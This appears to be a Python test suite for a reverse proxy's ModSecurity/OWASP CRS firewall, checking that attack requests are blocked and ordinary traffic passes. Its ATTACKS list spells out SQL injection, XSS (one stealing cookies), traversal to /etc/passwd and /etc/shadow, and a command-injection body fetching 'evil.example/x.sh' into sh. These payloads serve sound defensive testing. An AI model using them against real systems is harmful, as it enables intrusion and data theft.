"""The web application firewall: libmodsecurity3 with the OWASP Core Rule
Set as shipped in etc/waf/main.conf (Debian's modsecurity-crs, paranoia
level 1), per route.

Requests carry "Host: www.example.com", as a browser's would: the CRS
scores a Host that is a bare IP address (rule 920350), which an operator
meets only when clients talk to the proxy by address.
"""

import json
import os
import re
import signal
import subprocess
import unittest
import urllib.parse

from harness import PORTER, Client, PorterTest, get, main, wait_for

HERE = os.path.dirname(os.path.abspath(__file__))
MAIN_CONF = os.path.normpath(os.path.join(HERE, "..", "..", "etc", "waf",
                                          "main.conf"))
HOST = "www.example.com"


def waf_built():
    """None when porter has ModSecurity and the CRS is there, else why
    not."""
    import tempfile
    d = tempfile.mkdtemp(prefix="porter-waf-probe.")
    conf = os.path.join(d, "p.ini")
    with open(conf, "w") as f:
        f.write("[porter]\nuser = root\n[listen a]\naddress = 127.0.0.1:0\n"
                "[pool p]\nserver = 127.0.0.1:9\n[waf]\nrules = %s\n" %
                MAIN_CONF)
    r = subprocess.run([PORTER, "-t", "-c", conf], capture_output=True,
                       text=True)
    os.unlink(conf)
    os.rmdir(d)
    if "built without ModSecurity" in r.stderr:
        return "porter was built without ModSecurity"
    return None


SKIP = waf_built()

# Attacks, each (what, method, path, headers, body): all must get 403.
ATTACKS = [
    ("sqli query", "GET", "/echo?id=1%27%20OR%20%271%27=%271", {}, None),
    ("sqli union query", "GET",
     "/echo?id=1+UNION+SELECT+username,password+FROM+users--", {}, None),
    ("xss query", "GET", "/echo?q=%3Cscript%3Ealert(1)%3C/script%3E", {},
     None),
    ("traversal query", "GET", "/echo?file=../../../../etc/passwd", {},
     None),
    ("rce query", "GET", "/echo?host=127.0.0.1;cat%20/etc/passwd", {},
     None),
    ("rce backticks", "GET", "/echo?x=%60id%60;uname%20-a", {}, None),
    ("scanner user agent", "GET", "/echo", {"User-Agent": "sqlmap/1.7.2"},
     None),
    ("scanner nikto", "GET", "/echo",
     {"User-Agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"}, None),
    ("scanner in query", "GET", "/echo?ua=sqlmap/1.7.2&t=%3Cscript%3E"
     "alert(1)%3C/script%3E", {}, None),
    ("sqli urlencoded", "POST", "/echo",
     {"Content-Type": "application/x-www-form-urlencoded"},
     b"user=admin&pass=x%27%20OR%20%271%27%3D%271%27--"),
    ("xss urlencoded", "POST", "/echo",
     {"Content-Type": "application/x-www-form-urlencoded"},
     b"comment=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    ("rce urlencoded", "POST", "/echo",
     {"Content-Type": "application/x-www-form-urlencoded"},
     b"cmd=%3B%20wget%20http%3A%2F%2Fevil.example%2Fx.sh%20%7C%20sh"),
    ("sqli json", "POST", "/echo", {"Content-Type": "application/json"},
     json.dumps({"q": "1 UNION SELECT password FROM users"}).encode()),
    ("xss json", "POST", "/echo", {"Content-Type": "application/json"},
     json.dumps({"bio": "<script>document.location='http://x/'+"
                        "document.cookie</script>"}).encode()),
    ("traversal json", "POST", "/echo",
     {"Content-Type": "application/json"},
     json.dumps({"path": "../../../../etc/shadow"}).encode()),
    ("sqli header referer", "GET", "/echo",
     {"Referer": "http://x/?id=1' OR '1'='1"}, None),
    ("xss header user-agent", "GET", "/echo",
     {"User-Agent": "<script>alert(1)</script>"}, None),
    ("sqli cookie", "GET", "/echo",
     {"Cookie": "session=1' OR '1'='1' --"}, None),
    ("percent-encoded xss", "GET",
     "/echo?q=%3C%73%63%72%69%70%74%3E%61%6C%65%72%74%28%31%29%3C%2F%73%63"
     "%72%69%70%74%3E", {}, None),
    ("double-encoded xss", "GET",
     "/echo?x=%253Cscript%253Ealert(1)%253C%252Fscript%253E", {}, None),
    ("double-encoded traversal", "GET",
     "/echo?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd", {}, None),
    ("traversal urlencoded", "POST", "/echo",
     {"Content-Type": "application/x-www-form-urlencoded"},
     b"file=..%2f..%2f..%2f..%2fetc%2fpasswd"),
]


def multipart(fields, files=()):
    """A multipart/form-data body: (content type, bytes)."""
    b = "porterWafBoundary7MA4YWxkTrZu0gW"
    out = b""
    for k, v in fields:
        out += ("--%s\r\nContent-Disposition: form-data; name=\"%s\"\r\n\r\n"
                % (b, k)).encode() + v.encode() + b"\r\n"
    for k, name, ctype, data in files:
        out += ("--%s\r\nContent-Disposition: form-data; name=\"%s\"; "
                "filename=\"%s\"\r\nContent-Type: %s\r\n\r\n" %
                (b, k, name, ctype)).encode() + data + b"\r\n"
    out += ("--%s--\r\n" % b).encode()
    return "multipart/form-data; boundary=" + b, out


MP_XSS = multipart([("comment", "<script>alert(document.cookie)</script>")])
MP_SQLI = multipart([("name", "x"), ("q", "' UNION SELECT 1,2,3 FROM users"
                                         "--")])
ATTACKS += [
    ("xss multipart", "POST", "/echo", {"Content-Type": MP_XSS[0]},
     MP_XSS[1]),
    ("sqli multipart", "POST", "/echo", {"Content-Type": MP_SQLI[0]},
     MP_SQLI[1]),
]

PNG = bytes(range(256)) * 12 + b"\x89PNG\r\n\x1a\n" + bytes(200)
MP_UPLOAD = multipart([("title", "Summer photos (2024) \u2014 caf\u00e9"),
                       ("album", "Zo\u00eb's trip")],
                      [("photo", "beach.png", "image/png", PNG),
                       ("notes", "notes.txt", "text/plain",
                        "Dear team,\nthe report is attached.\n"
                        "Regards, Zo\u00eb\n".encode())])

# Ordinary traffic, each (what, method, path, headers, body): all 200.
BENIGN = [
    ("home", "GET", "/", {"Accept": "text/html", "User-Agent":
                          "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) "
                          "Gecko/20100101 Firefox/115.0"}, None),
    ("search", "GET", "/echo?q=how+to+bake+bread&page=2&sort=recent", {},
     None),
    ("non-ascii query", "GET", "/echo?q=" + urllib.parse.quote(
        "caf\u00e9 cr\u00e8me br\u00fbl\u00e9e \u65e5\u672c\u8a9e"), {},
     None),
    ("apostrophe query", "GET", "/echo?name=O%27Brien&city=Coeur+d%27Alene",
     {}, None),
    ("product page", "GET", "/echo?id=12345&color=dark-blue&size=XL", {},
     None),
    ("json api", "POST", "/echo", {"Content-Type": "application/json"},
     json.dumps({"name": "Sin\u00e9ad O'Connor",
                 "note": "She said \"it's fine\" and left at 5 o'clock",
                 "tags": ["music", "irish"], "count": 3}).encode()),
    ("json unicode", "POST", "/echo",
     {"Content-Type": "application/json; charset=utf-8"},
     json.dumps({"text": "\u041f\u0440\u0438\u0432\u0435\u0442, "
                         "\u043c\u0438\u0440! \u00a1Hola!"},
                ensure_ascii=False).encode()),
    ("form post", "POST", "/echo",
     {"Content-Type": "application/x-www-form-urlencoded"},
     b"name=Zo%C3%AB+O%27Neil&email=zoe%40example.com&comment=Great+"
     b"product%2C+thanks%21+Would+buy+again."),
    ("file upload", "POST", "/echo", {"Content-Type": MP_UPLOAD[0]},
     MP_UPLOAD[1]),
    ("cookies", "GET", "/echo", {"Cookie": "session=ab12cd34; theme=dark; "
                                 "lang=fr-CA"}, None),
]


def origin_hits(origin):
    """The origin's request count, the /hits request itself included."""
    return int(get(origin.port, "/hits").body)


@unittest.skipIf(SKIP is not None, SKIP or "")
class WafTest(PorterTest):
    porter_extra = "access_log_format = $status $waf $uri\n"

    def config_body(self):
        self.audit = os.path.join(self.tmp, "waf-audit.log")
        return ("[pool app]\nserver = %s\n\n"
                "[waf]\nrules = %s\naudit_log = %s\nbody_limit = 64k\n\n"
                "[route main]\npath = /\npool = app\nwaf = on\n\n"
                "[route detect]\npath = /detect/\npool = app\n"
                "strip_prefix = /detect\nwaf = detect\n\n"
                "[route open]\npath = /open/\npool = app\n"
                "strip_prefix = /open\n\n"
                "[admin]\naddress = 127.0.0.1:0\n" %
                (self.o["o1"].hostport, MAIN_CONF, self.audit))

    def send(self, method, path, headers, body, c=None):
        h = {"Host": HOST}
        h.update(headers)
        own = c is None
        c = c or Client(self.port)
        try:
            return c.request(method, path, headers=h, body=body)
        finally:
            if own:
                c.close()

    def access_has(self, pattern, n=1):
        """Wait until n access log lines match pattern (the line is
        written after the response is sent)."""
        return wait_for(lambda: len([l for l in self.porter.access()
                                     if re.search(pattern, l)]) >= n,
                        what="%d access log lines like %r" % (n, pattern))

    def assert_blocked(self, what, r):
        self.assertEqual(r.status, 403, "%s: %d %r" % (what, r.status,
                                                        r.body[:200]))
        wid = r.header("x-porter-waf-id")
        self.assertIsNotNone(wid, what)
        self.assertRegex(wid, r"^[0-9a-f]{12,23}$", what)
        self.assertIn(wid.encode(), r.body, what)
        return wid

    def test_attacks_blocked_origin_never_sees_them(self):
        before = origin_hits(self.o["o1"])
        ids = set()
        c = Client(self.port)
        for what, method, path, headers, body in ATTACKS:
            r = self.send(method, path, headers, body, c)
            ids.add(self.assert_blocked(what, r))
            if r.header("connection") == "close":
                c.close()
                c = Client(self.port)
        c.close()
        self.assertEqual(len(ids), len(ATTACKS), "an id for every block")
        # only the second /hits came through
        self.assertEqual(origin_hits(self.o["o1"]) - before, 1)
        log = self.porter.log()
        for wid in ids:
            self.assertRegex(log, r"waf: blocked %s, client 127\.0\.0\.1, "
                             r".*rules [0-9,]*949110" % wid)
        for wid in ids:
            self.access_has(r"^403 block:%s:[0-9,]+" % wid)
        # the audit log: one JSON object per block, under the same id
        def audited():
            try:
                with open(self.audit) as f:
                    text = f.read()
                return all(w in text for w in ids)
            except FileNotFoundError:
                return False
        wait_for(audited, what="blocks in the audit log")
        with open(self.audit) as f:
            first = json.loads(f.readline())
        self.assertIn(first["transaction"]["unique_id"], ids)
        self.assertEqual(first["transaction"]["response"]["http_code"], 403)
        # it holds cookies and bodies: not for every user to read
        self.assertEqual(os.stat(self.audit).st_mode & 0o777, 0o640)

    def test_benign_all_pass(self):
        c = Client(self.port)
        for what, method, path, headers, body in BENIGN:
            r = self.send(method, path, headers, body, c)
            self.assertEqual(r.status, 200, "%s: %d %r" % (what, r.status,
                                                            r.body[:300]))
            self.assertIsNone(r.header("x-porter-waf-id"), what)
            if body is not None:
                # the body held for inspection reaches the origin whole
                self.assertEqual(r.body, body, what)
        c.close()
        self.assertNotIn("waf: blocked", self.porter.log())
        self.access_has(r"^200 ", len(BENIGN))
        self.assertTrue(all(" pass " in l for l in self.porter.access()),
                        self.porter.access())

    def test_chunked_body_inspected_and_forwarded(self):
        c = Client(self.port)
        body = b"a=hello+world&b=caf%C3%A9"
        chunked = b"".join(b"%x\r\n%s\r\n" % (len(p), p)
                           for p in (body[:5], body[5:])) + b"0\r\n\r\n"
        r = self.send("POST", "/echo", {"Transfer-Encoding": "chunked"},
                      chunked, c)
        self.assertEqual((r.status, r.body), (200, body))
        bad = b"q=1+UNION+SELECT+password+FROM+users"
        r = self.send("POST", "/echo", {"Transfer-Encoding": "chunked",
                                        "Content-Type": "application/"
                                        "x-www-form-urlencoded"},
                      b"%x\r\n%s\r\n0\r\n\r\n" % (len(bad), bad), c)
        self.assert_blocked("chunked sqli", r)
        c.close()

    def test_expect_continue_body_held(self):
        # the client waits for 100 before sending: porter says it, then
        # reads and judges the body before the origin is asked
        c = Client(self.port)
        body = b"comment=%3Cscript%3Ealert(1)%3C/script%3E"
        c.send(("POST /echo HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n"
                "Expect: 100-continue\r\nContent-Type: application/"
                "x-www-form-urlencoded\r\n\r\n" % (HOST, len(body))).encode())
        r = c.read_response(interim=True)
        self.assertEqual(r.status, 100)
        c.send(body)
        self.assert_blocked("after 100", c.read_response())
        c.close()

    def test_detect_forwards_and_logs(self):
        before = origin_hits(self.o["o1"])
        r = self.send("GET", "/detect/echo?id=1%27%20OR%20%271%27=%271",
                      {}, None)
        self.assertEqual(r.status, 200)
        self.assertIsNone(r.header("x-porter-waf-id"))
        r = self.send("POST", "/detect/echo",
                      {"Content-Type": "application/json"},
                      b'{"q": "1 UNION SELECT password FROM users"}')
        self.assertEqual((r.status, r.body),
                         (200, b'{"q": "1 UNION SELECT password FROM users"}'))
        self.assertEqual(origin_hits(self.o["o1"]) - before, 3)
        self.assertEqual(len(re.findall(r"waf: detected [0-9a-f]+, .*rules "
                                        r"[0-9,]*942100",
                                        self.porter.log())), 2)
        self.access_has(r"^200 detect:[0-9a-f]+:[0-9,]*942100", 2)
        m = self.admin_get("/metrics").body.decode()
        self.assertRegex(m, r"porter_waf_detected_total 2\n")
        self.assertRegex(m, r"porter_waf_blocked_total 0\n")

    def test_route_without_waf_creates_no_transaction(self):
        r = self.send("GET", "/open/echo?id=1%27%20OR%20%271%27=%271", {},
                      None)
        self.assertEqual(r.status, 200)
        m = self.admin_get("/metrics").body.decode()
        self.assertRegex(m, r"porter_waf_inspected_total 0\n")
        self.access_has(r"^200 - /open/echo")

    def test_body_over_limit(self):
        big = b"x=" + b"a" * (80 * 1024)
        before = origin_hits(self.o["o1"])
        r = self.send("POST", "/echo", {}, big)
        self.assertEqual(r.status, 413)
        c = Client(self.port)
        c.send(("POST /echo HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: "
                "chunked\r\n\r\n" % HOST).encode() + b"".join(
                    b"4000\r\n" + b"b" * 0x4000 + b"\r\n" for _ in range(5)) +
               b"0\r\n\r\n")
        self.assertEqual(c.read_response().status, 413)
        c.close()
        self.assertEqual(origin_hits(self.o["o1"]) - before, 1)
        # detect: the body goes on, not inspected
        r = self.send("POST", "/detect/echo", {}, big)
        self.assertEqual((r.status, len(r.body)), (200, len(big)))
        m = self.admin_get("/metrics").body.decode()
        self.assertRegex(m, r"porter_waf_body_too_large_total 3\n")
        self.access_has(r"^200 over-limit /detect/echo")

    def test_metrics_count_blocks_by_rule(self):
        for _ in range(3):
            self.assert_blocked("sqli", self.send(
                "GET", "/echo?id=1%27%20OR%20%271%27=%271", {}, None))
        self.assertEqual(self.send("GET", "/echo?q=fine", {}, None).status,
                         200)
        m = self.admin_get("/metrics").body.decode()
        self.assertRegex(m, r"porter_waf_inspected_total 4\n")
        self.assertRegex(m, r"porter_waf_blocked_total 3\n")
        self.assertRegex(m, r'porter_waf_rule_matches_total\{rule="949110"\}'
                         r' 3\n')


@unittest.skipIf(SKIP is not None, SKIP or "")
class WafNoRoutesTest(PorterTest):
    """Without routes, [waf] guards every request; with seccomp on, what
    libmodsecurity does per request is on the allow-list."""
    porter_extra = "seccomp = on\nclient_max_body_size = 32k\n"

    def config_body(self):
        self.audit = os.path.join(self.tmp, "audit.log")
        return ("[pool app]\nserver = %s\n\n[waf]\nrules = %s\n"
                "audit_log = %s\n" % (self.o["o1"].hostport, MAIN_CONF,
                                      self.audit))

    def test_every_request_inspected_under_seccomp(self):
        c = Client(self.port)
        for what, method, path, headers, body in ATTACKS + BENIGN:
            h = {"Host": HOST}
            h.update(headers)
            r = c.request(method, path, headers=h, body=body)
            want = 200 if (what, method, path, headers, body) in BENIGN \
                else 403
            self.assertEqual(r.status, want, what)
            if r.header("connection") == "close":
                c.close()
                c = Client(self.port)
        c.close()
        self.assertNotRegex(self.porter.log(), r"SIGSYS|signal 31|died|"
                            r"killed")
        # the audit log was written from the confined workers
        with open(self.audit) as f:
            self.assertEqual(len(f.read().splitlines()), len(ATTACKS))


    def test_client_max_body_size_holds_for_chunked_bodies(self):
        # body_limit (1M) is larger: the held body still obeys it
        before = origin_hits(self.o["o1"])
        c = Client(self.port)
        c.send(("POST /echo HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: "
                "chunked\r\n\r\n" % HOST).encode() + b"".join(
                    b"2000\r\n" + b"c" * 0x2000 + b"\r\n" for _ in range(5)) +
               b"0\r\n\r\n")
        self.assertEqual(c.read_response().status, 413)
        c.close()
        self.assertEqual(origin_hits(self.o["o1"]) - before, 1)


@unittest.skipIf(SKIP is not None, SKIP or "")
class WafReloadTest(PorterTest):
    expect_errors = r"reload failed|extra\.conf"

    def config_body(self):
        self.extra = os.path.join(self.tmp, "extra.conf")
        self.write_extra(403)
        return ("[pool app]\nserver = %s\n\n[waf]\nrules = %s\n"
                "rules = %s\n" % (self.o["o1"].hostport, MAIN_CONF,
                                  os.path.join(self.tmp, "extra*.conf")))

    def write_extra(self, status, broken=False):
        with open(self.extra, "w") as f:
            f.write("# a site rule\n")
            if broken:
                f.write('SecRule ARGS:probe "@streq evil" "id:10001,'
                        'phase:1,deny,status:%d,nosuchaction"\n' % status)
            else:
                f.write('SecRule ARGS:probe "@streq evil" "id:10001,'
                        'phase:1,deny,status:%d,log"\n' % status)

    def probe(self):
        return get(self.port, "/echo?probe=evil",
                   headers={"Host": HOST}).status

    def reloads(self):
        return len(re.findall(r"configuration reloaded: generation",
                              self.porter.log()))

    def test_broken_rule_file_keeps_running_rules(self):
        self.assertEqual(self.probe(), 403)
        # a good change is loaded anew
        self.write_extra(406)
        self.porter.kill(signal.SIGHUP)
        wait_for(lambda: self.reloads() >= 1, what="reload")
        wait_for(lambda: self.probe() == 406, what="the new rule")
        # a broken one: file:line, and the running rules stay
        self.write_extra(409, broken=True)
        r = subprocess.run([PORTER, "-t", "-c", self.porter.conf],
                           capture_output=True, text=True)
        self.assertEqual(r.returncode, 1)
        self.assertRegex(r.stderr, re.escape(self.extra) + r":2: ")
        self.porter.kill(signal.SIGHUP)
        line = wait_for(lambda: re.search(r"reload failed, old "
                                          r"configuration kept: (.*)",
                                          self.porter.log()),
                        what="reload error")
        self.assertIn(self.extra + ":2: ", line.group(1))
        for _ in range(5):
            self.assertEqual(self.probe(), 406)
        self.assertEqual(get(self.port, "/echo?probe=fine",
                             headers={"Host": HOST}).status, 200)


@unittest.skipIf(SKIP is not None, SKIP or "")
class WafConfigTest(unittest.TestCase):
    """[waf] and waf = errors are file:line errors of porter -t."""

    def check(self, body, *want):
        import tempfile
        d = tempfile.mkdtemp(prefix="porter-waf-conf.")
        self.addCleanup(lambda: __import__("shutil").rmtree(d))
        conf = os.path.join(d, "porter.ini")
        with open(conf, "w") as f:
            f.write("[porter]\nuser = root\n[listen a]\naddress = "
                    "127.0.0.1:0\n[pool p]\nserver = 127.0.0.1:9\n" + body)
        r = subprocess.run([PORTER, "-t", "-c", conf], capture_output=True,
                           text=True)
        self.assertEqual(r.returncode, 1, r.stdout)
        for line, msg in want:
            self.assertIn("%s:%d: %s" % (conf, line, msg), r.stderr)

    def test_errors(self):
        self.check("[waf]\nbody_limit = 1M\n", (7, "[waf] has no rules"))
        self.check("[waf]\nrules = /nonexistent/*.conf\n",
                   (8, "rules: /nonexistent/*.conf: no such file"))
        self.check("[route r]\npool = p\nwaf = on\n",
                   (9, "[route r] has waf = on but there is no [waf] "
                       "section"))
        self.check("[waf]\nrules = %s\n[route r]\npool = p\nwaf = yes\n" %
                   MAIN_CONF, (11, "waf: expected on, detect or off"))
        self.check("[waf]\nrules = %s\n[waf]\n" % MAIN_CONF,
                   (9, "duplicate section [waf] (first at"))
        self.check("[waf]\nrules = %s\naudit_log = /nonexistent/a.json\n" %
                   MAIN_CONF, (7, "[waf] audit_log /nonexistent/a.json: "
                                  "No such file or directory"))


if __name__ == "__main__":
    main()
